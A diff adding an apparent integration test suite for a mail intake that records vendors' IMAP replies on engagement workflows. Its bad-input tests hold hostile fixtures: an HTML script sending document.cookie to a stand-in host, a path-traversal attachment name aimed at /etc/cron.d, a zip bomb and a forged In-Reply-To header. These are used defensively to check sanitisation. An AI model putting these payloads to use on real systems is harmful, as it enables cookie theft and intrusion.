@@ -1,0 +1,250 @@
+// The intake end to end: vendors' mail arrives in a real IMAP mailbox (the run's Dovecot, by IMAP
+// APPEND of the bytes a mail client sends), the intake correlates and records it on engagements
+// running on the real dev server, and the officer reviews it. Then bad input, each case asserting
+// the message is neither lost nor recorded on a case it does not belong to.
+import { randomUUID } from 'node:crypto';
+import { join } from 'node:path';
+import { deflateRawSync } from 'node:zlib';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { mailDomain } from '../../activities/email';
+import { messageIdFor, replyAddressFor } from '../../activities/threading';
+import { DossierClient } from '../../client/api';
+import { CampaignClient } from '../../client/campaign-api';
+import { CaseDocuments } from '../../documents/document-store';
+import { TemporalDirectory } from '../../intake/directory';
+import { ImapMailbox } from '../../intake/imap-mailbox';
+import { Intake, ORIGINALS_FOLDER } from '../../intake/intake';
+import { INBOX, RECORDED_FOLDER, type MailboxSource } from '../../intake/mailbox';
+import { openLocalStore } from '../../store/local';
+import { confirmInboundUpdate, dismissInboundUpdate } from '../../workflows/messages';
+import { engagementWorkflowId } from '../../workflows/types';
+import { startEngagement, type EngagementDriver } from '../helpers/engagement-driver';
+import { engagementInput, patientPolicy } from '../helpers/fixtures';
+import { useDossier } from '../helpers/harness';
+import { composeReply, deliveryReport, outOfOffice } from '../helpers/inbound-mail';
+
+const env = useDossier();
+const officer = 'Officer Tremblay';
+let mailbox: ImapMailbox;
+let sender: ImapMailbox;
+let intake: Intake;
+let documents: CaseDocuments;
+let domain: string;
+let caseMailbox: string;
+
+beforeAll(async () => {
+  const { host, port, password } = inject('imap');
+  const settings = { host, port, secure: false, user: `intake-${randomUUID().slice(0, 8)}`, password };
+  mailbox = new ImapMailbox(settings);
+  sender = new ImapMailbox(settings);
+  await mailbox.open();
+  await sender.open();
+  domain = mailDomain(env.config.mailFrom);
+  caseMailbox = `case@${domain}`;
+  const address = env.config.temporal.connectionOptions.address!;
+  const dossier = new DossierClient(env.client, { taskQueue: env.taskQueue, address });
+  const store = openLocalStore({ outputDir: join(env.scratch, 'out'), stateDir: join(env.scratch, 'state'), keysDir: join(env.scratch, 'keys-unused') });
+  documents = new CaseDocuments(store.documents, env.encryption!.keystore);
+  const directory = new TemporalDirectory(dossier, new CampaignClient(env.client, { taskQueue: env.taskQueue, address }), 0);
+  intake = new Intake({ mailbox, dossier, documents, directory, domain, caseMailbox });
+});
+
+afterAll(async () => {
+  await mailbox?.close();
+  await sender?.close();
+});
+
+async function count(box: MailboxSource, folder: string): Promise<number> {
+  let n = 0;
+  for await (const _ of box.messages(folder)) n++;
+  return n;
+}
+
+async function openEngagement(vendorId: string, campaignId = env.uniqueId('inbound')): Promise<EngagementDriver & { letterId: string }> {
+  const e = await startEngagement(env, engagementInput(campaignId, vendorId, patientPolicy()));
+  await e.waitForMail('letter');
+  await e.waitForStatus((s) => s.stage === 'awaiting-response');
+  return Object.assign(e, { letterId: messageIdFor(e.handle.workflowId, 'letter', domain) });
+}
+
+function vendorReply(e: EngagementDriver & { letterId: string }, overrides: Partial<Parameters<typeof composeReply>[0]> = {}) {
+  const vendorAddress = e.input.vendor.contacts[0].email;
+  return composeReply({
+    from: `Privacy Office <${vendorAddress}>`,
+    to: replyAddressFor(caseMailbox, e.handle.workflowId),
+    subject: `Re: [${e.input.campaign.reference}] Open letter`,
+    messageId: `<${randomUUID()}@${vendorAddress.split('@')[1]}>`,
+    inReplyTo: e.letterId,
+    references: [e.letterId],
+    text: 'Please find our response to the open letter attached.',
+    attachments: [{ filename: 'response.pdf', content: Buffer.from('%PDF-1.7\n% response of the vendor\n'), contentType: 'application/pdf' }],
+    ...overrides,
+  });
+}
+
+describe('the intake records vendors’ mail on their engagements', () => {
+  it('records a threaded reply with its PDF, stops the reminders for review, and the officer confirms it as the response', async () => {
+    const e = await openEngagement('zoom');
+    await sender.append(await vendorReply(e));
+    const [settled] = await intake.pass();
+    expect(settled).toMatchObject({ outcome: 'recorded', workflowId: e.handle.workflowId, effect: 'to-review' });
+    expect(await count(mailbox, INBOX)).toBe(0);
+
+    const status = await e.status();
+    expect(status.stage).toBe('reply-received');
+    const [message] = status.inbox!;
+    expect(message).toMatchObject({ from: 'privacy@zoom.test', matchedBy: 'thread', answersStep: 'letter', review: 'to-review' });
+    expect(message.documents).toEqual([expect.objectContaining({ name: 'response.pdf', type: 'application/pdf', size: 34 })]);
+    // The payload carries a reference; the bytes come back only through the store, decrypted.
+    expect((await documents.read(e.input.campaign.id, message.documents[0])).toString()).toContain('response of the vendor');
+
+    const confirmed = await e.handle.executeUpdate(confirmInboundUpdate, { args: [{ by: officer, messageId: message.messageId, as: 'response' }] });
+    expect(confirmed.stage).toBe('responded');
+    expect(confirmed.response).toMatchObject({ summary: 'Please find our response to the open letter attached.', attachments: ['response.pdf'], messageId: message.messageId });
+    await e.waitForMail('acknowledgement');
+  });
+
+  it('records a message once, however often it arrives', async () => {
+    const e = await openEngagement('cisco');
+    const raw = await vendorReply(e);
+    await sender.append(raw);
+    await intake.pass();
+    await sender.append(raw);
+    const [again] = await intake.pass();
+    expect(again).toMatchObject({ outcome: 'recorded', effect: 'to-review' });
+    expect((await e.status()).inbox).toHaveLength(1);
+    expect(await count(mailbox, INBOX)).toBe(0);
+  });
+
+  it('finds the engagement by the reply token when a mail client dropped the threading headers', async () => {
+    const e = await openEngagement('google');
+    await sender.append(await vendorReply(e, { inReplyTo: undefined, references: undefined, subject: 'Our answer' }));
+    const [settled] = await intake.pass();
+    expect(settled).toMatchObject({ outcome: 'recorded', workflowId: e.handle.workflowId });
+    expect((await e.status()).inbox![0].matchedBy).toBe('token');
+  });
+
+  it('notes an out-of-office answer without stopping the reminders', async () => {
+    const e = await openEngagement('houseparty');
+    await sender.append(await outOfOffice({ from: 'privacy@houseparty.test', to: caseMailbox, subject: 'Automatic reply', messageId: `<${randomUUID()}@houseparty.test>`, inReplyTo: e.letterId }));
+    const [settled] = await intake.pass();
+    expect(settled).toMatchObject({ outcome: 'recorded', effect: 'noted' });
+    const status = await e.status();
+    expect(status.stage).toBe('awaiting-response');
+    expect(status.inbox![0]).toMatchObject({ kind: 'auto-reply', review: 'noted' });
+  });
+
+  it('handles a bounce like a refused address: delivery failure recorded, officer told', async () => {
+    const e = await openEngagement('microsoft');
+    await sender.append(deliveryReport({ to: caseMailbox, bouncedMessageId: e.letterId, recipient: 'privacy@microsoft.test', messageId: `<${randomUUID()}@mx.microsoft.test>` }));
+    const [settled] = await intake.pass();
+    expect(settled).toMatchObject({ outcome: 'recorded', effect: 'delivery-failure' });
+    const status = await e.status();
+    expect(status.deliveryFailures).toEqual([expect.objectContaining({ step: 'letter', reason: expect.stringContaining('5.1.1') })]);
+    const [notice] = await e.waitForMail('officer-notice-bounce-1');
+    expect(notice.to).toEqual([e.input.campaign.officeContact.email]);
+  });
+
+  it('lets the officer dismiss a reply, and the engagement awaits the response again', async () => {
+    const e = await openEngagement('webex');
+    await sender.append(await vendorReply(e, { text: 'Could you resend the letter?', attachments: [] }));
+    await intake.pass();
+    const [message] = (await e.status()).inbox!;
+    const after = await e.handle.executeUpdate(dismissInboundUpdate, { args: [{ by: officer, messageId: message.messageId, reason: 'a question, not a response' }] });
+    expect(after.stage).toBe('awaiting-response');
+  });
+});
+
+describe('bad input: never lost, never on the wrong case, never a crash', () => {
+  it('holds a reply from an address that is not the vendor’s, and the officer assigns it from the holding pen', async () => {
+    const e = await openEngagement('zoom');
+    await sender.append(await vendorReply(e, { from: 'someone@lawfirm.test' }));
+    const [settled] = await intake.pass();
+    expect(settled).toMatchObject({ outcome: 'held', campaignId: e.input.campaign.id, reason: expect.stringContaining('not an address of Vendor zoom') });
+    expect((await e.status()).inbox).toEqual([]);
+    const held = await intake.held(e.input.campaign.id);
+    expect(held).toEqual([expect.objectContaining({ from: 'someone@lawfirm.test', reason: expect.stringContaining('someone@lawfirm.test is not an address') })]);
+    expect(await count(mailbox, ORIGINALS_FOLDER)).toBeGreaterThan(0);
+
+    const result = await intake.assign(e.input.campaign.id, held[0].messageId, { campaignId: e.input.campaign.id, vendorId: 'zoom' }, officer);
+    expect(result.effect).toBe('to-review');
+    expect((await e.status()).inbox![0]).toMatchObject({ matchedBy: 'officer', assignedBy: officer, answersStep: 'letter' });
+    expect(await intake.held(e.input.campaign.id)).toEqual([]);
+  });
+
+  it('never lets a forged In-Reply-To carry a vendor’s mail into another campaign’s case', async () => {
+    const ours = await openEngagement('zoom');
+    const theirs = await openEngagement('cisco');
+    await sender.append(await vendorReply(ours, { inReplyTo: theirs.letterId, references: [theirs.letterId], to: caseMailbox, subject: 'Re: letter' }));
+    const [settled] = await intake.pass();
+    expect(settled).toMatchObject({ outcome: 'held', campaignId: theirs.input.campaign.id });
+    expect((await theirs.status()).inbox).toEqual([]);
+  });
+
+  it('holds malformed MIME that names no case, keeping every byte', async () => {
+    const raw = Buffer.from(
+      'From: privacy@zoom.test\r\nMessage-ID: <broken-' + randomUUID() + '@zoom.test>\r\nContent-Type: multipart/mixed; boundary="never-closed"\r\n\r\n--never-closed\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n@@@not base64@@@\r\n',
+    );
+    await sender.append(raw);
+    const [settled] = await intake.pass();
+    expect(settled.outcome).toBe('held');
+    const originals: Buffer[] = [];
+    for await (const m of mailbox.messages(ORIGINALS_FOLDER)) originals.push(m.raw);
+    expect(originals.some((o) => o.equals(raw))).toBe(true);
+    expect((await intake.held(undefined)).some((h) => h.messageId === settled.messageId)).toBe(true);
+  });
+
+  it('records a reply with a 30 MB attachment, noting the attachment was not kept', async () => {
+    const e = await openEngagement('bigfile');
+    const huge = Buffer.alloc(30 * 1024 * 1024, 7);
+    await sender.append(await vendorReply(e, { attachments: [{ filename: 'everything.bin', content: huge }] }));
+    const [settled] = await intake.pass();
+    expect(settled).toMatchObject({ outcome: 'recorded' });
+    const [message] = (await e.status()).inbox!;
+    expect(message.documents).toEqual([]);
+    expect(message.notes).toEqual([expect.stringMatching(/^everything\.bin is 30\.0 MB; documents may be at most 25\.0 MB\. It was not kept/)]);
+    expect(await count(mailbox, RECORDED_FOLDER)).toBeGreaterThan(0);
+  }, 120_000);
+
+  it('keeps only the text of HTML with scripts, a zip bomb as the bytes sent, and a file name without its path', async () => {
+    const e = await openEngagement('tricky');
+    // 1 GiB of zeros compresses to about 1 MB: stored as received, never expanded.
+    const bomb = deflateRawSync(Buffer.alloc(64 * 1024 * 1024));
+    await sender.append(
+      await vendorReply(e, {
+        text: undefined,
+        html: '<p>Our answers</p><script>fetch("https://evil.test/"+document.cookie)</script>',
+        attachments: [
+          { filename: '../../../etc/cron.d/evil', content: 'x' },
+          { filename: 'bomb.zip', content: bomb, contentType: 'application/zip' },
+        ],
+      }),
+    );
+    const [settled] = await intake.pass();
+    expect(settled.outcome).toBe('recorded');
+    const [message] = (await e.status()).inbox!;
+    expect(message.text).toContain('Our answers');
+    expect(message.text).not.toMatch(/script|fetch|cookie/);
+    expect(message.documents.map((d) => [d.name, d.size])).toEqual([
+      ['evil', 1],
+      ['bomb.zip', bomb.length],
+    ]);
+  });
+
+  it('leaves a message in the inbox while Temporal does not accept it, and records it once it does', async () => {
+    const e = await openEngagement('outage');
+    await sender.append(await vendorReply(e));
+    const failing = new Intake({
+      mailbox,
+      dossier: { recordInbound: () => Promise.reject(new Error('14 UNAVAILABLE: connection refused')) },
+      documents,
+      directory: { engagementByToken: async () => undefined, campaignByReference: async () => undefined },
+      domain,
+      caseMailbox,
+    });
+    const [left] = await failing.pass();
+    expect(left).toMatchObject({ outcome: 'left', reason: expect.stringContaining('UNAVAILABLE') });
+    expect(await count(mailbox, INBOX)).toBe(1);
+    expect((await intake.pass())[0]).toMatchObject({ outcome: 'recorded', workflowId: engagementWorkflowId(e.input.campaign.id, 'outage') });
+  });
+});
